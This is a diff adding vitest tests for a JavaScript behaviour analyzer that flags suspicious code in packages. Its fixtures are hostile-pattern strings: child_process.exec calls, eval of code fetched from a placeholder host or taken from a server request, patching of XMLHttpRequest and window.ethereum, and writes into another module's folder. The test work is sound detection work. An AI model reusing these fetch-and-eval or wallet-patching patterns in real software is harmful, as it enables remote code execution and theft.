@@ -1,0 +1,165 @@
+/** Values and calls are followed where no assignment shows the way: helpers of compilers, lists, promises, events, fields, methods. */
+import { describe, expect, it } from 'vitest';
+import { analyzeFile } from '../../src/behavior/analyze-file.ts';
+import { tellFile, tellPackage } from './tell.ts';
+
+const acts = "require('child_process').exec('id');";
+const awaiter = `var __awaiter = (this && this.__awaiter) || function (thisArg, _arguments, P, generator) {
+  return new (P || (P = Promise))(function (resolve, reject) {
+    function step(result) { result.done ? resolve(result.value) : result.value.then(step, reject); }
+    step((generator = generator.apply(thisArg, _arguments || [])).next());
+  });
+};
+var __generator = (this && this.__generator) || function (thisArg, body) { return body.call(thisArg, {}); };
+`;
+
+function originsOf(program: string): readonly string[] {
+  const behaviors = analyzeFile(program, 'index.mjs').fns.flatMap((fn) => fn.behaviors);
+  return behaviors.find(({ kind }) => kind === 'dynamic-code')?.origins ?? [];
+}
+
+describe('what a compiled async function does happens when it is called:', () => {
+  it.each([
+    [
+      "TypeScript's",
+      `${awaiter} function go() { return __awaiter(this, void 0, void 0, function* () { ${acts} }); } go();`,
+    ],
+    [
+      "TypeScript's, for old engines",
+      `${awaiter} (function () { return __awaiter(this, void 0, void 0, function () { return __generator(this, function (_a) { ${acts} return [2]; }); }); })();`,
+    ],
+    ["esbuild's", `var run = () => __async(null, null, function* () { ${acts} }); run();`],
+    ["Babel's", `const go = _asyncToGenerator(function* () { ${acts} }); go();`],
+    [
+      "Babel's, with a machine of states",
+      `function go() { return _go.apply(this, arguments); }
+function _go() { _go = (0, _asyncToGenerator2["default"])(_regenerator["default"].mark(function _callee() { return _regenerator["default"].wrap(function _callee$(_context) { ${acts} }, _callee); })); return _go.apply(this, arguments); }
+go();`,
+    ],
+  ])('%s', (_, program) => {
+    expect(tellPackage({ 'index.js': program })).toEqual(['load child-process child_process.exec']);
+  });
+
+  it('and not before', () => {
+    const program = `${awaiter} exports.go = () => __awaiter(this, void 0, void 0, function* () { ${acts} }); exports.run = _asyncToGenerator(function* () { ${acts} });`;
+    expect(tellPackage({ 'index.js': program })).toEqual([
+      'call child-process child_process.exec',
+      'call child-process child_process.exec',
+    ]);
+  });
+});
+
+describe('text that is run is known to be fetched', () => {
+  it.each([
+    [
+      'by a generator',
+      `__awaiter(null, null, null, function* () { const a = yield fetch('/'); eval(yield a.text()); })`,
+    ],
+    [
+      'by a machine of states',
+      `__awaiter(null, null, null, function () { var a; return __generator(this, function (_a) { switch (_a.label) { case 0: return [4, fetch('/')]; case 1: a = _a.sent(); eval(a); return [2]; } }); })`,
+    ],
+    [
+      'through a list',
+      `require('https').get('https://far.invalid/', (answer) => { const parts = []; answer.on('data', (part) => parts.push(part)); answer.on('end', () => eval(Buffer.concat(parts).toString())); })`,
+    ],
+    [
+      'through a list that is handed its method',
+      `require('https').get('https://far.invalid/', (answer) => { const parts = []; answer.on('data', parts.push.bind(parts)); answer.on('end', () => eval(parts.join(''))); })`,
+    ],
+    [
+      'through a promise',
+      `const text = await new Promise((resolve) => { require('https').get('https://far.invalid/', (answer) => { let all = ''; answer.on('data', (part) => { all += part; }); answer.on('end', () => resolve(all)); }); }); eval(text);`,
+    ],
+    [
+      'through an event',
+      `const bus = new (require('events'))(); bus.on('ready', (text) => eval(text)); fetch('/').then((answer) => answer.text()).then((text) => bus.emit('ready', text));`,
+    ],
+    [
+      'through a field',
+      `class Box { #parts = []; async load() { for await (const part of (await fetch('/')).body) this.#parts.push(part); } get text() { return this.#parts.join(''); } run() { eval(this.text); } }`,
+    ],
+    [
+      'through a method',
+      `class Box { load() { fetch('/').then((answer) => this.run(answer)); } run(text) { eval(text); } }`,
+    ],
+    ['through a constructor', `class Box { constructor(text) { eval(text); } } new Box(await fetch('/'));`],
+    [
+      'by a server',
+      `require('http').createServer((question, answer) => { let all = ''; question.on('data', (part) => all += part); question.on('end', () => eval(all)); })`,
+    ],
+  ])('%s', (_, program) => {
+    expect(originsOf(program)).toContain('fetched');
+  });
+
+  it('and text from elsewhere is not', () => {
+    const program = `class Box { async load() { this.page = await fetch('/'); } run(text) { eval(text); } } const parts = []; parts.push('1'); new Box().run(parts.join(''));`;
+    expect(originsOf(program)).not.toContain('fetched');
+  });
+});
+
+describe('it is told', () => {
+  it.each([
+    [
+      'that a port is opened',
+      `require('net').createServer(() => {}).listen(5001)`,
+      'network net.createServer().listen',
+    ],
+    [
+      'what a prototype gets by a static method',
+      `class A { static on(scope) { scope.XMLHttpRequest.prototype.send = () => {}; } } A.on(window)`,
+      'global-patch XMLHttpRequest.prototype.send',
+    ],
+    [
+      'what a table of names patches',
+      `const p = window.ethereum; ['request', 'send'].forEach((name) => { Object.defineProperty(p, name, {}); })`,
+      'global-patch ethereum.[…]',
+    ],
+    [
+      'what a name that is not told patches',
+      `(name) => { window.ethereum[name] = () => {}; }`,
+      'global-patch ethereum.[…]',
+    ],
+    ['how modules are loaded', `require.extensions['.js'] = () => {}`, 'global-patch module._extensions..js'],
+    [
+      'what a loaded module exports',
+      `(name) => { require.cache[name].exports.post = () => {}; }`,
+      'global-patch require.cache.*.exports.post',
+    ],
+    [
+      'that text grown letter by letter is run by a timer',
+      `let text = ''; for (const code of codes) text += String.fromCharCode(code); setTimeout(text, 0)`,
+      'dynamic-code setTimeout',
+    ],
+    [
+      'that a worker is made of text',
+      `new Worker('data:text/javascript,' + encodeURIComponent('1'))`,
+      'dynamic-code Worker "data:text/javascript,…"',
+    ],
+    [
+      'that promises start one another',
+      `const again = () => Promise.resolve().then(again); again()`,
+      'endless-loop Promise.resolve().then "it starts itself again before anything else may run"',
+    ],
+    [
+      'which module a bound loader loads',
+      `Function.prototype.call.bind(module.constructor.prototype.require, module)('child_process').exec('id')`,
+      'child-process child_process.exec "id"',
+    ],
+    [
+      'where an installed module lies',
+      `require('fs').writeFileSync(require('path').dirname(require.resolve('signer/package.json')) + '/a.js', '')`,
+      'file-write fs.writeFileSync "node_modules/signer/a.js"',
+    ],
+  ])('%s', (_, program, told) => {
+    expect(tellFile(program)).toContain(told);
+  });
+
+  it.each([
+    ['a worker of its own', `new Worker(new URL('./worker.js', import.meta.url))`],
+    ['a timer that ends a connection', `fetch('/').then((answer) => setTimeout(answer.destroy.bind(answer), 100))`],
+    ['promises that end', `const again = (n) => { if (n > 0) Promise.resolve().then(() => again(n - 1)); }; again(3)`],
+  ])('and nothing of %s', (_, program) => {
+    expect(tellFile(program).filter((line) => !line.startsWith('network'))).toEqual([]);
+  });
+});
